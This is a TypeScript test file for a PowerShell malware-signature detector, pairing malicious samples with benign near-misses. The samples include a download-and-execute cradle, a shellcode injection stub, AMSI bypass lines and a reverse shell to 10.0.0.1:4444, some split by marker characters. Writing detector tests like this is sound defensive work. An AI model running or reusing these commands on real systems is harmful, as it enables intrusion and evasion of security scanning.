import { BASE64, BAT, PS, testSignatures } from '../../test/signature-rows.ts'
import { powershellSignatures } from './powershell.ts'

testSignatures(powershellSignatures, {
  'powershell-hidden-encoded-command': {
    hits: [[BAT, `@echo off\npower¦shell -nop -w hidden -e¦nc ${BASE64}`]],
    nearMisses: [
      [
        BAT,
        `@echo off\n@power¦shell -NoProfile -ExecutionPolicy Bypass -Command "i¦ex ((New-Object System.Net.WebClient).Download¦String('https://chocolatey.org/install.ps1'))"\nchoco install nodejs`,
      ],
    ],
  },
  'powershell-hidden-download': {
    hits: [
      [
        PS,
        'power¦shell -w hidden -c "I¦EX (New-Object Net.WebClient).Download¦String(\'http://10.0.0.1/a.ps1\')"',
      ],
      [
        PS,
        '(New-Object Net.WebClient).Download¦File("http://10.0.0.1/a", "$env:TEMP\\a.exe")\nStart-Process "$env:TEMP\\a.exe" -Window¦Style Hidden ',
      ],
    ],
    nearMisses: [
      [
        PS,
        "Set-ExecutionPolicy Bypass -Scope Process -Force\nInvoke-WebRequest -Uri https://nodejs.org/dist/node.msi -OutFile node.msi\nStart-Process msiexec.exe -ArgumentList '/i node.msi /qn' -Wait",
      ],
    ],
  },
  'powershell-program-in-memory': {
    hits: [
      [
        PS,
        `[Reflection.Ass¦embly]::Load([Convert]::FromBase64¦String('TVqQ${BASE64}')).EntryPoint.Invoke($null, $null)`,
      ],
      [
        PS,
        `i¦ex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64¦String('H4sI${BASE64}'))))).ReadToEnd()`,
      ],
    ],
    nearMisses: [
      [PS, "$bytes = [Convert]::FromBase64String($env:CERT)\n[IO.File]::WriteAllBytes('cert.pfx', $bytes)"],
    ],
  },
  'powershell-shellcode': {
    hits: [
      [
        PS,
        `$b = [Byte[]](${'0xfc,0xe8,0x82,0x00,'.repeat(20)}0x90)\n$m = Virtual¦Alloc(0, $b.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Mar¦shal]::Copy($b, 0, $m, $b.Length)\nCreate¦Thread(0, 0, $m, 0, 0, 0)`,
      ],
    ],
    nearMisses: [
      [
        PS,
        'Add-Type -Name Memory -MemberDefinition \'[DllImport("kernel32")] static extern IntPtr VirtualAlloc();\'',
      ],
    ],
  },
  'powershell-amsi-off': {
    hits: [
      [
        PS,
        "[Ref].Assembly.GetType('System.Management.Automation.Am¦siUtils').GetField('amsi¦InitFailed','NonPublic,Static').SetValue($null,$true)",
      ],
      [PS, '$a = GetProcAddress $dll "Am¦siScanBuffer"; [K]::Virtual¦Protect($a, 5, 0x40, [ref]0)'],
    ],
    nearMisses: [
      [
        PS,
        '$tree = [System.Management.Automation.Language.Parser]::ParseFile($path, [ref]$null, [ref]$null)',
      ],
    ],
  },
  'powershell-reverse-shell': {
    hits: [
      [
        PS,
        '$c = New-Object System.Net.Sock¦ets.TCPClient("10.0.0.1",4444);$s = $c.GetStream();while(1){$d = $r.ReadLine();$o = (i¦ex $d 2>&1 | Out-String );$s.Write($o,0,$o.Length)}',
      ],
    ],
    nearMisses: [
      [
        PS,
        '$c = New-Object System.Net.Sockets.TCPClient("smtp.example.com", 25)\n$s = $c.GetStream()\n$s.Write($bytes, 0, $bytes.Length)',
      ],
    ],
  },
})
